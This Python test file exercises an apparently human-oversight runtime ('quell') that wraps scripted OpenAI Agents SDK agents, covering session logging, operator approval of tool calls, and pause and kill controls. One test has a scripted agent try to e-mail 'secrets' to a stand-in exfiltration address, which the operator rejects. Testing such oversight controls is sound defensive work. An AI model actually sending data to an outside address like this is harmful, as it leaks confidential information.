"""A real OpenAI Agents SDK agent (only the model faked: the SDK's ScriptedModel, no network)
under quell through `quell_agent.openai_agents.run`, driven by the real quell binary."""

import asyncio
import concurrent.futures
import itertools
import json
import os
import threading
import time

os.environ.setdefault("OPENAI_AGENTS_DISABLE_TRACING", "1")  # no exporter: the tests have no network

from agents import Agent, function_tool
from agents.testing import ScriptedModel, assistant_message, function_call

from quell_agent import EmbeddedStore, Killed, Runtime
from quell_agent.openai_agents import run
from helpers import DEADLINE_S, pending_approval, quell, replay, sessions, wait_for

SENT = []


@function_tool
def crm_lookup(customer: str) -> str:
    """Looks a customer up."""
    return f"{customer}: premium"


@function_tool(needs_approval=True)
def send_email(to: str, body: str) -> str:
    """Sends an e-mail."""
    SENT.append(to)
    return f"sent to {to}"


def test_a_run_is_a_verified_quell_session_with_llm_and_tool_entries(store):
    model = ScriptedModel([[function_call("crm_lookup", {"customer": "ACME"}, call_id="c1")],
                           [assistant_message("ACME is premium.")]])
    agent = Agent(name="support-agent", instructions="help", model=model, tools=[crm_lookup])
    with Runtime(EmbeddedStore(store)) as rt:
        result = asyncio.run(run(agent, "who is ACME?", runtime=rt, session_id="conv-1", model="scripted"))
    assert result.final_output == "ACME is premium."
    listed = sessions(store)["conv-1"]
    assert listed["agent"] == "support-agent" and listed["state"] == "finished" and listed["tools"] == ["crm_lookup"]
    events = replay(store, "conv-1")
    kinds = [e["kind"] for e in events]
    assert kinds == ["session_started", "llm_call", "checkpoint", "tool_call", "tool_result", "llm_call",
                     "checkpoint", "session_ended"]
    llm = events[1]
    assert llm["tool_calls"] == [{"gen_ai.tool.name": "crm_lookup", "gen_ai.tool.call.arguments": {"customer": "ACME"}}]
    assert "who is ACME" not in json.dumps(events), "never the raw input"
    assert quell(store, "verify").returncode == 0


def test_the_sdks_approval_interruption_is_decided_in_quell(store):
    SENT.clear()
    model = ScriptedModel([
        [function_call("send_email", {"to": "ok@example.com", "body": "hi"}, call_id="c1")],
        [assistant_message("sent")],
        [function_call("send_email", {"to": "exfil@evil.example", "body": "secrets"}, call_id="c2")],
        [assistant_message("not sent")],
    ])
    agent = Agent(name="mail-agent", instructions="mail", model=model, tools=[send_email])
    with Runtime(EmbeddedStore(store)) as rt:
        for conv, verb in (("conv-ok", "approve"), ("conv-bad", "reject")):
            out = {}
            t = threading.Thread(target=lambda c=conv: out.update(r=asyncio.run(
                run(agent, "mail", runtime=rt, session_id=c, risk={"send_email": "critical"}))))
            t.start()
            request = pending_approval(store)
            assert request["session_id"] == conv and request["risk"] == "critical"
            assert request["arguments"]["to"] in ("ok@example.com", "exfil@evil.example")
            quell(store, verb, request["id"], "--reason", "on-call decided")
            t.join(60)
            assert not t.is_alive() and "r" in out
    assert SENT == ["ok@example.com"]
    decided = [e["attributes"]["quell.approval.status"] for e in replay(store, "conv-bad")
               if e["kind"] == "approval_decided"]
    assert decided == ["rejected"]
    assert quell(store, "verify").returncode == 0


def test_pause_holds_the_run_and_kill_stops_it(store):
    steps = [[function_call("crm_lookup", {"customer": f"c{i}"}, call_id=f"c{i}")] for i in range(400)]
    model = ScriptedModel(steps)
    agent = Agent(name="research-agent", instructions="loop", model=model, tools=[crm_lookup])
    outcome = {}
    with Runtime(EmbeddedStore(store)) as rt:
        def go():
            try:
                asyncio.run(run(agent, "research", runtime=rt, session_id="conv-loop", max_turns=1000))
            except Killed as e:
                outcome["killed"] = str(e)

        t = threading.Thread(target=go)
        t.start()
        wait_for("a few steps", lambda: sessions(store).get("conv-loop", {}).get("step", 0) >= 3)
        assert "1 acknowledged" in quell(store, "pause", "conv-loop", "--reason", "runaway", "--wait", "10").stdout
        held = sessions(store)["conv-loop"]["step"]
        time.sleep(0.5)
        assert sessions(store)["conv-loop"]["step"] == held, "no step while paused"
        quell(store, "kill", "conv-loop", "--reason", "loop", "--wait", "10")
        t.join(60)
    assert "killed by an operator" in outcome.get("killed", "")
    assert sessions(store)["conv-loop"]["state"] == "killed"
    assert quell(store, "verify").returncode == 0


def looping_agent(name):
    """An agent whose model asks for another crm_lookup after every lookup, until killed."""
    model = ScriptedModel([[function_call("lookup", {"customer": "c0"}, call_id="c0")]])
    calls = itertools.count(1)

    @function_tool
    def lookup(customer: str) -> str:
        """Looks a customer up."""
        n = next(calls)
        model.enqueue([function_call("lookup", {"customer": f"c{n}"}, call_id=f"c{n}")])
        return f"{customer}: premium"

    return Agent(name=name, instructions="loop", model=model, tools=[lookup])


def test_many_paused_runs_in_one_event_loop_hold_no_thread_and_another_run_goes_on(store):
    """A pause holds the run's coroutine, not an executor thread: with more paused runs than the
    default executor has threads, another run in the same loop still runs to its end."""
    held = 20
    cli = concurrent.futures.ThreadPoolExecutor(1)  # the CLI calls must not need the default executor
    with Runtime(EmbeddedStore(store)) as rt:
        async def main():
            loop = asyncio.get_running_loop()

            def operator(*args):
                return loop.run_in_executor(cli, lambda: quell(store, *args))

            ids = [f"conv-held-{i}" for i in range(held)]

            def steps():
                return {i: (rt.store.session(i) or {}).get("step", 0) for i in ids}

            runs = [asyncio.create_task(run(looping_agent("held-agent"), "loop", runtime=rt, session_id=i,
                                            max_turns=100_000)) for i in ids]
            while min(steps().values()) < 1:
                await asyncio.sleep(0.02)
            try:
                p = await operator("pause", "--where", "agent=held-agent", "--reason", "drill", "--wait", "10")
                assert f"{held} acknowledged" in p.stdout, p.stdout
                paused = steps()
                model = ScriptedModel([[function_call("crm_lookup", {"customer": "ACME"}, call_id="f1")],
                                       [assistant_message("ACME is premium.")]])
                free = Agent(name="free-agent", instructions="help", model=model, tools=[crm_lookup])
                result = await asyncio.wait_for(run(free, "who is ACME?", runtime=rt, session_id="conv-free"),
                                                DEADLINE_S)
                assert result.final_output == "ACME is premium."
                assert steps() == paused, "the held runs did not step"
            finally:
                # Also when the free run stalled: the kill releases every held run, so the test ends.
                await operator("kill", "--where", "agent=held-agent", "--reason", "drill over", "--wait", "10")
                ended = await asyncio.wait_for(asyncio.gather(*runs, return_exceptions=True), DEADLINE_S)
            assert all(isinstance(e, Killed) for e in ended), ended

        asyncio.run(main())
    cli.shutdown()
    states = {s["id"]: s["state"] for s in sessions(store).values()}
    assert states.pop("conv-free") == "finished"
    assert set(states.values()) == {"killed"} and len(states) == held
